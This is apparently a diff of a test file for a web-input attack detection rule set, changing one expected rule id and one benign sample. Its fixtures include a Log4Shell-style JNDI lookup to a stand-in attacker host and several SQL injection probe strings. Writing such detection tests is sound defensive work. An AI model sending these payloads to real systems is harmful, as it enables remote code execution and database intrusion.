@@ -14,7 +14,7 @@ const JNDI = '${jndi:ldap://evil.example/a}';
 
 describe('rules for values', () => {
   it.each([
-    [1005, "1'; select case when 3=3 then 1 else null end"],
+    [1009, "1'; select case when 3=3 then 1 else null end"],
     [1005, "1' + (select 'a' from dual where 2=2)"],
     [1005, 'select @@version'],
     [1006, 'or 5=5'],
@@ -107,7 +107,7 @@ describe('rules for values', () => {
     'Tom & Jerry; more tomorrow. Fish | chips, cat & dog.',
     'mir & dir',
     'tags: php;bash;linux | more | less',
-    'ldap://directory.example/dc=x',
+    'see ldap://directory.example/dc=x',
     '{"name":{"$in":["a","b"]}}',
     'pages [[10-12]] and [[2020-21]]',
     'name|id|price',
